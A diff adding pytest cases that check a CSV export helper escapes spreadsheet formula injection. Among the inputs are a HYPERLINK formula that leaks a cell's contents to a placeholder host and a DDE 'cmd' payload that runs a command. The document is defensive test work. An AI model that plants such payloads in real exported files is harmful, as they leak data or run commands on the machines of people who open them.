@@ -3,6 +3,8 @@
 import os
 import time
 
+import pytest
+
 from components import downloads
 
 
@@ -21,3 +23,20 @@ def test_old_downloads_are_removed(tmp_path, monkeypatch):
     os.utime(os.path.dirname(old), (past, past))
     downloads.write_download("new.csv", "y")
     assert not os.path.exists(old)
+
+
+@pytest.mark.parametrize("value, shown", [
+    ('=HYPERLINK("http://x/?leak="&A1,"click me")', '\'=HYPERLINK("http://x/?leak="&A1,"click me")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("- a list item", "'- a list item"),
+    ("-0.2500", "-0.2500"), ("+0.0125", "+0.0125"), ("1e-05", "1e-05"), (-3, -3), (0.5, 0.5),
+    ("plain text = fine", "plain text = fine"), ("", ""), ("'already quoted", "'already quoted"),
+])
+def test_safe_cell(value, shown):
+    assert downloads.safe_cell(value) == shown
+
+
+def test_csv_text_layout():
+    text = downloads.csv_text(["a", "b"], [[1, "=x"], ["#y", "z"]], {"query_instruction": "query: ", "k": 10})
+    assert text.splitlines() == ['# query_instruction,"""query: """', "# k,10", '"a","b"', '"1","\'=x"', '"#y","z"']
